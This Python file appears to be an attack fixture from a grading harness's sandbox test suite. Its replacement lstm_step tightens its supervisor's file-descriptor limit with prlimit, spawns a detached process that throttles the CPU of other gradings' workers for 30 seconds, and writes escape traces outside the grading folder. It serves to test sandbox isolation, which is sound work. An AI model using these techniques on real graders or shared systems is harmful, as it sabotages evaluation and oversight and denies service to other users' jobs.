# Attack "starve_supervisor" (tests/attacks): lstm_step sets its supervisor's RLIMIT_NOFILE to 0 (so that it
# could not list /proc to clean up), and leaves a process that, for 30 s, sets RLIMIT_CPU to 1 s on every
# process whose RLIMIT_AS is the worker's ceiling: the workers of every other grading, its own next ones.
# Appended to the base module: these definitions replace its own of the same names.
# A call that gets through costs the attack its answer (the test sees it in every tier).
import inspect
import os
import resource
import subprocess
import sys

import torch

# -- the attack ---------------------------------------------------------------------------
ATTACK = "@@NAME@@"
# Whom it aims at, to stay within its own grading on a shared machine: "*" every process it sees (the
# test's own PID namespace), else the processes whose command line names this folder (its grader, its
# supervisor: their sandbox lies there) and its supervisor, whatever its command line says.
SCOPE = "@@SCOPE@@"


def _escape(what: str) -> None:
    """Try to leave a trace outside the grading directory; the test checks that none is left."""
    for path in ("@@MARK@@", "@@PARENT@@/escaped-@@NAME@@"):
        if path.startswith("@@"):
            continue  # placeholders not filled in: not built by tests/attacks, so write nothing
        try:
            with open(path, "a") as trace:
                trace.write(f"written by the attack {ATTACK}: {what}\n")
        except OSError:
            pass


def _in_scope(pid: int) -> bool:
    if SCOPE.startswith("@@"):
        return False  # not built by tests/attacks: aim at nothing
    if SCOPE == "*" or pid == os.getppid():
        return True
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as command:
            return SCOPE.encode() in command.read()
    except OSError:
        return False


def _others() -> list[int]:
    """Every other process of its uid in scope (each pid tried where Landlock keeps /proc from being listed)."""
    try:
        pids = [int(name) for name in os.listdir("/proc") if name.isdigit()]
    except OSError:
        pids = list(range(2, 1 << 16))
    found = []
    for pid in pids:
        try:
            mine = os.stat(f"/proc/{pid}").st_uid == os.getuid()
        except OSError:
            continue
        if mine and pid != os.getpid() and _in_scope(pid):
            found.append(pid)
    return found


def _hunter() -> str:
    """The hunter's program: the scope's functions above, then its loop."""
    return (
        f"import os, resource, time\nATTACK, SCOPE = {ATTACK!r}, {SCOPE!r}\n"
        + "".join(inspect.getsource(function) for function in (_escape, _in_scope, _others))
        + """
ceiling = resource.getrlimit(resource.RLIMIT_AS)
deadline = time.monotonic() + 30
while time.monotonic() < deadline:
    for pid in _others():
        try:
            if resource.prlimit(pid, resource.RLIMIT_AS) == ceiling:
                resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
                _escape(f"set RLIMIT_CPU to 1 s on a worker ({pid})")
        except OSError:
            pass
    time.sleep(0.5)
"""
    )


_honest_lstm_step = lstm_step  # noqa: F821  (the base module's, defined above this text)
_left = []


def lstm_step(*arguments: torch.Tensor, **named: torch.Tensor) -> tuple[torch.Tensor, torch.Tensor]:
    """The reference's answer, after taking its supervisor's descriptors and leaving a hunter behind."""
    try:
        if os.getppid() <= 1:  # the first process of a PID namespace: no supervisor in sight (0 would be itself)
            raise ProcessLookupError
        resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (0, 0))
        reached = True
        _escape("set its supervisor's RLIMIT_NOFILE to 0")
    except OSError:
        reached = False
    if not _left and not SCOPE.startswith("@@"):
        _left.append(
            subprocess.Popen(
                [sys.executable, "-c", _hunter(), "@@TOKEN@@"],
                start_new_session=True,  # out of the worker's process group
                stdin=subprocess.DEVNULL,
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
        )
    h, c = _honest_lstm_step(*arguments, **named)
    return (torch.zeros_like(h), c) if reached else (h, c)
